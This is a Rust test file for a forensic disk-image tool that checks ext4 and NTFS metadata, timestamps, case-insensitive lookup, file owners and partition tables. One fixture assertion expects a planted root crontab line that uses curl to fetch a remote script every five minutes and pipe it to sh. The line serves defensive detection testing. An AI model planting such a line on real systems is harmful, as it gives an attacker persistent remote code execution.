//! The file-system layer on the scripted images: names, metadata, times, case rules.

use crate::common::*;
use std::sync::Arc;
use tasktrail::evidence::{RawFile, SharedReader, Slice};
use tasktrail::fs::{
    resolve, walk_files, ExtFs, FileKind, FileSystem, FsError, NtfsFs, WalkLimits,
};
use tasktrail::volume::{find_volumes, Scheme};

fn open(name: &str) -> SharedReader {
    Arc::new(RawFile::open(&root().join("testdata/images").join(name)).unwrap())
}

#[test]
fn ext4_metadata_owner_mode_and_nanosecond_times() {
    let fs = ExtFs::open(open("ext4.img")).unwrap();
    let md = fs.metadata("var/spool/cron/crontabs/root").unwrap();
    assert_eq!(md.kind, Some(FileKind::File));
    assert_eq!((md.uid, md.gid), (Some(0), Some(0)));
    assert_eq!(md.mode.map(|m| m & 0o7777), Some(0o600));
    assert_eq!(md.size, 49);
    let t: Vec<(&str, String)> = md
        .times
        .iter()
        .map(|t| (t.key, t.time.to_string()))
        .collect();
    assert_eq!(
        t,
        [
            ("mtime", "2023-11-14T22:13:20.000000000Z".to_string()),
            ("atime", "2023-11-14T22:13:20.000000000Z".to_string()),
            ("crtime", "2023-11-14T22:13:20.000000000Z".to_string()),
        ]
    );
    assert_eq!(
        fs.read("var/spool/cron/crontabs/root", 1 << 20).unwrap(),
        b"*/5 * * * * curl -s http://203.0.113.7/p.sh | sh\n"
    );
    assert!(matches!(
        fs.read("var/spool/cron/crontabs/root", 10),
        Err(FsError::TooLarge {
            size: 49,
            cap: 10,
            ..
        })
    ));
    assert!(matches!(fs.metadata("etc/nope"), Err(FsError::NotFound(_))));
    // ext is case-sensitive.
    assert_eq!(resolve(&fs, "", "ETC/crontab"), None);
    let (files, errors) = walk_files(&fs, "etc", WalkLimits::default());
    assert!(errors.is_empty());
    assert_eq!(
        files,
        [
            "etc/cron.d/agent",
            "etc/crontab",
            "etc/os-release",
            "etc/systemd/system/backup.timer"
        ]
    );
}

#[test]
fn ntfs_case_insensitive_lookup_and_si_fn_times() {
    let fs = NtfsFs::open(open("ntfs.img")).unwrap();
    assert_eq!(
        resolve(&fs, "", "windows/SYSTEM32/tasks/UPDATER").as_deref(),
        Some("Windows/System32/Tasks/Updater")
    );
    // Direct lookups are case-insensitive too ($UpCase).
    let md = fs
        .metadata("WINDOWS/system32/TASKS/microsoft/windows/defrag/scheduleddefrag")
        .unwrap();
    let get = |k: &str| {
        md.times
            .iter()
            .find(|t| t.key == k)
            .unwrap()
            .time
            .to_string()
    };
    assert_eq!(get("si_created"), "2019-12-07T09:14:26.1234567Z");
    assert_eq!(get("si_accessed"), "2023-06-10T08:00:00.0000001Z");
    assert_eq!(get("fn_created"), "2019-12-07T09:14:26.1234567Z");
    assert!(
        md.file_id.unwrap() >= 24,
        "user files live after the system records"
    );
    let entries = fs.read_dir("Windows/System32/Tasks").unwrap();
    let names: Vec<(&str, FileKind)> = entries.iter().map(|e| (e.name.as_str(), e.kind)).collect();
    assert_eq!(
        names,
        [
            ("Broken", FileKind::File),
            ("Claims UTF-16", FileKind::File),
            ("Compressed", FileKind::Dir),
            ("Legacy", FileKind::Dir),
            ("Microsoft", FileKind::Dir),
            ("Tools", FileKind::Dir),
            ("Updater", FileKind::File)
        ]
    );
    match fs.read("Windows/System32/Tasks/Compressed/Packed", 1 << 20) {
        Err(FsError::Unsupported { what, .. }) => {
            assert_eq!(what, "data is NTFS-compressed (LZNT1)")
        }
        other => panic!("compressed data must be refused, got {other:?}"),
    }
}

#[test]
fn ntfs_file_owners_come_from_secure() {
    // ntfs-owners.img: written through ntfs-3g's permission mapping (make_images.sh).
    let fs = NtfsFs::open(open("ntfs-owners.img")).unwrap();
    let owner = |p: &str| {
        let md = fs.metadata(p).unwrap();
        (md.security_id, md.owner)
    };
    assert_eq!(
        owner("Windows/System32/Tasks/Updater"),
        (Some(259), Some("S-1-5-32-544".to_string()))
    );
    assert_eq!(
        owner("Windows/System32/Tasks/UserTask"),
        (
            Some(260),
            Some("S-1-5-21-3141592653-589793238-462843383-12000".to_string())
        )
    );
    // Plain ntfs-3g writes the short $STANDARD_INFORMATION: no security id, no owner.
    let plain = NtfsFs::open(open("ntfs.img")).unwrap();
    let md = plain.metadata("Windows/System32/Tasks/Updater").unwrap();
    assert_eq!((md.security_id, md.owner), (None, None));
    // On the timeline: details.file of the task records.
    let out = tasktrail(&["scan", "testdata/images/ntfs-owners.img", "-o", "-", "-q"]);
    let rows = parse_csv(&out.stdout);
    let file = |name: &str| rows_named(&rows, name)[0].details()["file"].clone();
    assert_eq!(file("\\Updater")["owner"], "Administrators");
    assert_eq!(file("\\Updater")["owner_sid"], "S-1-5-32-544");
    assert_eq!(
        file("\\UserTask")["owner_sid"],
        "S-1-5-21-3141592653-589793238-462843383-12000"
    );
    assert!(
        file("\\UserTask").get("owner").is_none(),
        "not a well-known SID"
    );
}

#[test]
fn partition_tables() {
    let gpt = find_volumes(open("gpt-disk.img").as_ref());
    assert_eq!(gpt.scheme, "gpt (512-byte sectors)");
    let v: Vec<(&str, u64, u64, &str, &str)> = gpt
        .volumes
        .iter()
        .map(|v| {
            (
                v.name.as_str(),
                v.offset,
                v.len,
                v.part_type.as_str(),
                v.label.as_str(),
            )
        })
        .collect();
    assert_eq!(
        v,
        [
            (
                "p1",
                1 << 20,
                6 << 20,
                "EBD0A0A2-B9E5-4433-87C0-68B6B72699C7",
                "Basic data partition"
            ),
            (
                "p2",
                7 << 20,
                4 << 20,
                "0FC63DAF-8483-4772-8E79-3D69D8477DE4",
                "linux root"
            ),
            (
                "p3",
                11 << 20,
                1 << 20,
                "0FC63DAF-8483-4772-8E79-3D69D8477DE4",
                "spare"
            ),
        ]
    );
    assert!(gpt.problems.is_empty(), "{:?}", gpt.problems);

    let k4 = find_volumes(open("gpt4k-disk.img").as_ref());
    assert_eq!(k4.scheme, "gpt (4096-byte sectors)");
    assert_eq!(
        (k4.volumes[0].offset, k4.volumes[0].len),
        (1 << 20, 6 << 20)
    );

    let mbr = find_volumes(open("mbr-disk.img").as_ref());
    assert_eq!(mbr.scheme, "mbr");
    let v: Vec<(&str, u64, u64, &str, Scheme)> = mbr
        .volumes
        .iter()
        .map(|v| {
            (
                v.name.as_str(),
                v.offset,
                v.len,
                v.part_type.as_str(),
                v.scheme,
            )
        })
        .collect();
    assert_eq!(
        v,
        [
            ("p1", 1 << 20, 4 << 20, "0x83", Scheme::Mbr),
            ("p5", (5 << 20) + (1 << 20), 6 << 20, "0x07", Scheme::Mbr),
        ]
    );

    let bare = find_volumes(open("ntfs.img").as_ref());
    assert_eq!(bare.scheme, "none");
    assert_eq!(bare.volumes[0].scheme, Scheme::Whole);
}

#[test]
fn slices_are_windows_into_the_disk() {
    let disk = open("gpt-disk.img");
    let p1: SharedReader = Arc::new(Slice::new(disk, 1 << 20, 6 << 20));
    let mut boot = [0u8; 11];
    p1.read_exact_at(0, &mut boot).unwrap();
    assert_eq!(&boot[3..], b"NTFS    ");
}
